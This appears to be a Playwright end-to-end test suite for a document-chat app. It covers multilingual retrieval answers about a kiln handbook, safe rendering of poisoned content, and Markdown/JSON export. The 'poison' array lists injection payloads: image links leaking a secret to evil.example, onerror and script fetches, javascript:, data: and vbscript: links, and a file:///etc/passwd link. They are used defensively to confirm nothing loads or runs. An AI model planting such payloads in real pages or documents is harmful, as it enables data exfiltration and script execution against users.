import { readFile } from 'node:fs/promises'
import { textFile } from '../../../../tests/support/document-files.ts'
import { expect, hydrated, test } from '../../../../e2e/support/fixtures.ts'
import { languages, tagOf, textIn } from '../../../../e2e/support/texts.ts'
import { ask, button, documentRow, log, openDocuments, speak, upload } from './document-fixtures.ts'

// Answers of the chat from documents.

const handbook = {
  en: {
    text: 'The kiln is heated to 1240 degrees for stoneware. Cooling takes two days.',
    question: 'To how many degrees is the kiln heated for stoneware?',
  },
  de: {
    text: 'Der Ofen wird für Steinzeug auf 1240 Grad geheizt. Das Abkühlen dauert zwei Tage.',
    question: 'Auf wie viel Grad wird der Ofen für Steinzeug geheizt?',
  },
  es: {
    text: 'El horno se calienta a 1240 grados para el gres. Enfriarlo tarda dos días.',
    question: '¿A cuántos grados se calienta el horno para el gres?',
  },
  pt: {
    text: 'O forno é aquecido a 1240 graus para o grés. O resfriamento leva dois dias.',
    question: 'A quantos graus o forno é aquecido para o grés?',
  },
}

for (const language of languages) {
  const t = textIn(language)
  test(
    `without a key a document is quoted and opens at the quotation: ${language}`,
    tagOf(language),
    async ({ page, enter, user }) => {
      await speak(page, language)
      await enter(user)
      await openDocuments(page)
      await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook[language].text}\n`) })
      await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
        timeout: 60_000,
      })
      await ask(page, handbook[language].question)
      const isFound = log(page).getByText(t('chat:retrieval.answer'), { exact: true })
      await expect(
        isFound.or(log(page).getByText(t('chat:retrieval.possible'), { exact: true })).first(),
      ).toBeVisible()
      const quotes = log(page).locator('blockquote')
      await expect(quotes.filter({ hasText: '1240' })).toHaveCount(1)
      await expect(quotes.filter({ hasText: /^\s*Kiln/ })).toHaveCount(0)
      await log(page)
        .getByRole('button', { name: t('chat:sources.open', { number: '1', name: 'kiln.md', page: '1' }) })
        .first()
        .click()
      await expect(page.getByRole('dialog').locator('mark')).toContainText('1240')
      await page.keyboard.press('Escape')
      await ask(page, 'Zyxwv qwrtp?')
      await expect(log(page).getByText(t('chat:retrieval.none'), { exact: true })).toBeVisible()
    },
  )
}

const poison = [
  '![a](https://evil.example/a.png?d=SECRET)',
  '<img src="https://evil.example/b.png" onerror="fetch(\'https://evil.example/c\')">',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>',
  '<script>fetch("https://evil.example/d")</script><iframe src="https://evil.example/e"></iframe>',
  '![b][r] <svg onload="alert(3)"><style>@import "https://evil.example/f"</style>',
  '[r]: https://evil.example/g.png',
  '<link rel="preload" as="image" href="https://evil.example/h.png"> ![x](//evil.example/i.png)',
  '[data](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox(5)) [f](file:///etc/passwd)',
]

test('a poisoned document or message is shown as text: nothing is fetched from elsewhere, nothing runs, no link runs a script', async ({
  page,
  enter,
  user,
  baseURL,
}) => {
  const t = textIn('en')
  const foreign: string[] = []
  page.on(
    'request',
    (request) =>
      !request.url().startsWith(baseURL ?? '') &&
      /^https?:/.test(request.url()) &&
      foreign.push(request.url()),
  )
  page.on('dialog', (dialog) => foreign.push(dialog.message()))
  await enter(user)
  await openDocuments(page)
  await upload(page, {
    'poison.md': textFile(
      poison.map((line, at) => `The secret glaze number ${at} is celadon ${line} celadon.`).join('\n\n'),
    ),
  })
  await expect(documentRow(page, 'poison.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 60_000,
  })
  for (const [at, line] of poison.entries()) {
    await ask(page, `What is the secret glaze number ${at}? ${line}`)
    await expect(
      log(page).locator(
        'img, iframe, script, style, svg[onload], a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"]',
      ),
    ).toHaveCount(0)
  }
  await expect(log(page).getByText('celadon').first()).toBeVisible()
  for (const rel of await log(page)
    .locator('a[href^="http"]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('rel'))))
    expect(rel).toContain('noopener')
  await page.reload()
  await hydrated(page)
  expect(foreign).toEqual([])
})

test('an answer is exported as Markdown and as JSON, with its sources', async ({ page, enter, user }) => {
  const t = textIn('en')
  const { text, question } = handbook.en
  await enter(user)
  await openDocuments(page)
  await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${text}\n`) })
  await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 60_000,
  })
  await openDocuments(page)
  await ask(page, question)
  const keep = async (entry: string) => {
    const started = page.waitForEvent('download')
    await button(page, t('chat:threads.menu', { title: question })).click()
    await page.getByRole('menuitem', { name: entry }).click()
    const download = await started
    return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') }
  }
  const markdown = await keep(t('chat:threads.asMarkdown'))
  expect(markdown.name).toBe(`${question.replaceAll('?', ' ').trim()}.md`)
  expect(markdown.text).toContain(`# ${question}`)
  expect(markdown.text).toContain(`> ${question}`)
  expect(markdown.text).toContain(String.raw`- \[1\] kiln.md, page 1`)
  const json = await keep(t('chat:threads.asJson'))
  expect(JSON.parse(json.text)).toMatchObject({
    title: question,
    messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
  })
})
